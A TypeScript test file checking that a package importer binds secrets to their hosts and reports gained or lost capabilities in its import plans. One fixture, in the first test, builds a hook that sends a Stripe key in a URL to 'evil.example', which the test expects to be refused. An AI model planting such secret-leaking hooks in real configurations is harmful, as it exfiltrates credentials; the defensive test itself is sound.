import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { automation, hook, Importer, type Json, pack, told, webhook } from './importer.ts';
import { Program } from './program.ts';

let program: Program;
let importer: Importer;

beforeAll(async () => {
  program = await Program.start();
  importer = new Importer(program);
  await program.api('PUT', '/secrets/STRIPE_KEY', {
    value: 'sk_live_1234567890',
    hosts: ['api.stripe.com'],
  });
});

afterAll(() => program[Symbol.asyncDispose]());

const BEARER = 'headers: { authorization: "Bearer ${{ secrets.STRIPE_KEY }}" }\n';

describe('a hook of a package', () => {
  test('gets no secret that is not for its host, in its headers or its URL', async () => {
    const url = 'url: "https://evil.example/${{ secrets.STRIPE_KEY }}"\n';
    const records = [
      hook('a', BEARER),
      { uid: 'b', text: `kind: hook\nname: b\ntopics: ["**"]\n${url}` },
    ];
    const { message } = await importer.refusal('POST', '/packages', {
      document: pack('evil', { records }),
    });
    expect(message).toContain(
      'y-a.yaml:4:1 error package.record: Expected a host that the secret STRIPE_KEY is bound to, got example.com.',
    );
    expect(message).toContain('b.yaml:4:6 error package.record');
    expect(message).toContain('got evil.example.');
    expect(message).not.toContain('sk_live_');
  });

  test('gets one that is for its host, which the plan says', async () => {
    const text = `kind: hook\nname: stripe\nurl: https://api.stripe.com/in\n${BEARER}`;
    const document = pack('stripe', { records: [{ uid: 'stripe', text }] });
    const plan = await importer.import(document);
    expect(plan.capabilities.gained.secret_hosts).toEqual(['STRIPE_KEY → api.stripe.com']);
    const again = await importer.import(document);
    expect(again).toMatchObject({ action: 'unchanged', capabilities: { gained: {}, lost: {} } });
  });

  test('may send a secret that its package asks for without hosts, which the plan says of each version', async () => {
    const prompts = [{ key: 'OWN', type: 'secret' }];
    const headers = 'headers: { authorization: "${{ secrets.OWN }}" }\n';
    const version = (number: string, host: string): string => {
      const text = `kind: hook\nname: own\nurl: https://${host}/in\n${headers}`;
      return pack('own', { version: number, prompts, records: [{ uid: 'own', text }] });
    };
    const answers = { OWN: 'four' };
    await importer.import(version('1.0.0', 'a.example'), { answers });
    const plan = await importer.import(version('2.0.0', 'b.example'));
    expect(plan.capabilities.gained.secret_hosts).toEqual(['OWN → b.example']);
    await program.api('DELETE', '/packages/own');
    const foreign = { uid: 'x', text: `kind: hook\nname: x\nurl: https://a.example/in\n${BEARER}` };
    const { message } = await importer.refusal('POST', '/packages', {
      document: pack('foreign', { records: [foreign] }),
    });
    expect(message).toContain('STRIPE_KEY');
  });

  test('that is exported takes along where it sends what a person gave it', async () => {
    const headers = { authorization: 'Bearer sk_live_1234567890' };
    await program.api('POST', '/hooks', {
      name: 'pasted',
      url: 'https://else.example/in',
      headers,
    });
    const document = JSON.stringify(
      await program.api('POST', '/exports', { name: 'pasted', hooks: ['pasted'] }),
    );
    const { configure } = JSON.parse(document) as Json;
    const asked = configure.prompts.find(({ key }: Json) => key === 'STRIPE_KEY');
    expect(asked.hosts).toEqual(['api.stripe.com', 'else.example']);
  });
});

describe('the plan of a newer version', () => {
  const records = [automation('open.a', 'one'), hook('open', 'topics: [open.*]\n')];
  const source = 'source: { preset: github, secrets: { secret: STRIPE_KEY } }\n';

  test('says who may call what now', async () => {
    await program.api('PUT', '/automations/admin.purge', {
      source: 'automation: admin.purge\nsteps:\n  - return: { text: gone }\n',
    });
    await importer.import(
      pack('open', { records: [...records, webhook('Open', 'open.a', source)] }),
    );
    const changed =
      'kind: webhook\nname: Open\nforward: payment.paid\nbindings:\n  - automation: open.a\n  - { automation: admin.purge, also: true }\n';
    const document = pack('open', {
      version: '2.0.0',
      records: [...records, { uid: 'x-Open', text: changed }],
    });
    const { capabilities } = await importer.plan(document);
    expect(capabilities).toEqual({
      gained: {
        hooks: ['payment.paid'],
        callers: [
          'admin.purge: whoever has the URL of Open',
          'open.a: whoever has the URL of Open',
          'payment.paid: whoever has the URL of Open',
        ],
      },
      lost: { callers: ['open.a: github with STRIPE_KEY, at Open'] },
    });
  });

  test('tells a source with other settings from the one before it', async () => {
    const other = `source: { preset: github, secrets: { secret: STRIPE_KEY }, verify: { ip: [10.0.0.0/8] } }\n`;
    const document = pack('open', {
      version: '2.0.0',
      records: [...records, webhook('Open', 'open.a', other)],
    });
    const { capabilities } = await importer.plan(document);
    expect(capabilities.gained.callers).toEqual([
      expect.stringMatching(/^open\.a: github \(settings \w{8}\) with STRIPE_KEY, at Open$/),
    ]);
  });

  test('says that a hook sends elsewhere, also below the same host, and without topics', async () => {
    const at = (path: string): string => {
      const texts = [
        `kind: hook\nname: plain\nurl: https://example.com/${path}\ntopics: [a]\n`,
        `kind: hook\nname: named\nurl: https://example.com/${path}\nalerts: [${path}@example.com]\n`,
        `kind: hook\nname: slack\nurl: https://hooks.slack.com/services/${path}ABCDEF0123456789\ntopics: [b]\n`,
      ];
      return pack('sends', { records: texts.map((text, index) => ({ uid: `h${index}`, text })) });
    };
    await importer.import(at('one'));
    const { capabilities } = await importer.plan(at('two'));
    const hidden = expect.stringMatching(/^b → https:\/\/hooks\.slack\.com\/… \(hidden, \w{8}\)$/);
    expect(capabilities.gained.deliveries).toEqual([
      'a → https://example.com/two',
      'alerts about named → two@example.com',
      hidden,
      'what names named → https://example.com/two',
    ]);
  });
});

test('what somebody else’s record could do is new to the package that takes it over', async () => {
  const policy = 'policy: { state: [mine/*] }\n';
  await program.api('PUT', '/automations/mine', {
    source: `automation: mine\n${policy}steps:\n  - return: { text: one }\n`,
  });
  const document = pack('taker', { records: [automation('mine', 'two', policy)] });
  const { capabilities } = await importer.plan(document, { conflicts: 'replace' });
  expect(capabilities).toEqual({ gained: { state: ['mine/*'] }, lost: {} });
});

describe('a secret whose value nobody gives anew', () => {
  const version = (number: string, hosts: readonly string[]): string =>
    pack('bound', {
      version: number,
      prompts: [{ key: 'BOUND', type: 'secret', hosts }],
      records: [
        {
          uid: 'bound',
          text: `automation: bound
policy: { http: ["POST https://*.example/**"], secrets: [BOUND] }
steps:
  - http: { method: POST, url: "https://a.example/", auth: { bearer: "\${{ secrets.BOUND }}" } }
`,
        },
      ],
    });
  const answers = { BOUND: 'value-1234' };
  const hostsOf = async (): Promise<string[]> => (await program.api('GET', '/secrets/BOUND')).hosts;

  test('goes where the version says that is imported', async () => {
    await importer.import(version('1.0.0', ['a.example']), { answers });
    const plan = await importer.import(version('2.0.0', ['a.example', 'b.example']));
    expect(told(plan)).toEqual(['secret BOUND: change', 'automation bound: unchanged']);
    expect(plan.capabilities).toEqual({
      gained: { secret_hosts: ['BOUND → b.example'] },
      lost: {},
    });
    expect(await hostsOf()).toEqual(['a.example', 'b.example']);
    const again = await importer.import(version('2.0.0', ['a.example', 'b.example']));
    expect(again.action).toBe('unchanged');
    const back = await importer.import(version('1.0.0', ['a.example']));
    expect(back.capabilities.lost).toEqual({ secret_hosts: ['BOUND → b.example'] });
    expect(await hostsOf()).toEqual(['a.example']);
  });

  test('stays as people have set it, unless it would not go where the version sends it', async () => {
    const mine = { value: 'rotated-1234', hosts: ['a.example', 'mine.example'] };
    await program.api('PUT', '/secrets/BOUND', mine);
    expect(told(await importer.import(version('1.1.0', ['a.example'])))[0]).toBe(
      'secret BOUND: unchanged',
    );
    const plan = await importer.plan(version('2.0.0', ['b.example']));
    expect(told(plan)[0]).toBe('secret BOUND: conflict (changed)');
    expect(await hostsOf()).toEqual(mine.hosts);
  });
});
